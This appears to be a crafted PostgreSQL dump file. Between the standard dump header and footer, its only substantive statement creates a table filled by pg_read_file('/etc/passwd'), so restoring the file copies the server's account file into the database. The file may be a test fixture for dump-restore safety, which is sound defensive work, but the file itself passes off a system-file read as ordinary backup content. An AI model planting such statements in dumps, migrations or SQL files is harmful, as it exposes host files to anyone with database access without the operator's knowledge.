--
-- PostgreSQL database dump
--

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE TABLE public.t AS SELECT pg_catalog.pg_read_file('/etc/passwd') AS a;
--
-- PostgreSQL database dump complete
--

